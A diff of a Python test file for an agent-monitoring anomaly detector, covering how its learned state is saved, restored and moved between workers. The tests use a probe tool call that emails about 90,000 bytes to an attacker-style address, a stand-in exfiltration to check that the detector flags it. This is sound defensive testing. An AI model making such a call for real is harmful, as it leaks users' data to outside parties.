@@ -19,6 +19,7 @@ from intentwatch.models.detection import (
     TaskRisk,
     fuse,
 )
+from intentwatch.models.learned import LearnedStateError
 
 CATALOGUE = ToolCatalogue()
 AGENT = "spiffe://acme.org/agents/support/a1"
@@ -308,13 +309,13 @@ def test_a_tool_foreign_to_this_kind_of_task_is_rare(trained: Detector) -> None:
         "kind_tool_rarity", x)
 
 
-def test_a_restored_snapshot_judges_exactly_as_the_detector_it_was_taken_from() -> None:
+def test_restored_learned_state_judges_exactly_as_the_detector_it_was_taken_from() -> None:
     config = ScoringConfig(detectors={"multivariate": {"window_size": 20}})
     original = Detector(config)
     for k in range(60):
         run_task(original, f"snap-{k}", ROUTINE)
     restored = Detector(config)
-    restored.restore(original.snapshot())
+    restored.load_state(original.state())
     assert restored.restored_calls == original.learned_calls == 120
     probe = [{"tool": "gmail.send_email", "target": "mailto:eve@evil.example",
               "bytes_out": 90_000}]
@@ -322,7 +323,30 @@ def test_a_restored_snapshot_judges_exactly_as_the_detector_it_was_taken_from() 
     after = run_task(restored, "probe-b", probe, learn=False)[0]
     assert after.components == before.components and after.score == before.score
     assert before.components["target_rarity"] > 0  # it judged with what it had learned
+    assert restored.state() == original.state()
 
     other = Detector(ScoringConfig(detectors={"baseline": {"max_targets": 16}}))
-    with pytest.raises(ValueError, match="other baseline"):
-        other.restore(original.snapshot())
+    with pytest.raises(LearnedStateError, match=r"^learned state was learned with other baseline"):
+        other.load_state(original.state())
+    with pytest.raises(LearnedStateError, match=r"^learned state of one agent's kind, not"):
+        Detector(config).load_state(original.agent_state(AGENT))
+
+
+def test_an_agents_learned_state_moves_on_its_own() -> None:
+    config = ScoringConfig(detectors={"multivariate": {"window_size": 20}})
+    original = Detector(config)
+    for k in range(30):
+        run_task(original, f"mine-{k}", ROUTINE)
+    assert original.take_learned_agents() == {AGENT} and not original.take_learned_agents()
+    moved = Detector(config)  # the agent's new worker, which knows the population
+    moved.load_population_state(original.population_state())
+    assert moved.load_agent_state(original.agent_state(AGENT)) == AGENT
+    probe = [{"tool": "gmail.send_email", "target": "mailto:eve@evil.example"}]
+    assert run_task(moved, "p", probe, learn=False)[0].components == run_task(
+        original, "p", probe, learn=False)[0].components
+    population_only = Detector(config)
+    population_only.load_population_state(original.population_state())
+    assert run_task(population_only, "p", probe, learn=False)[0].components != run_task(
+        original, "p", probe, learn=False)[0].components  # the agent's own state mattered
+    nobody = "spiffe://acme.org/agents/support/nobody"
+    assert len(original.agent_state(nobody)) < len(original.agent_state(AGENT))
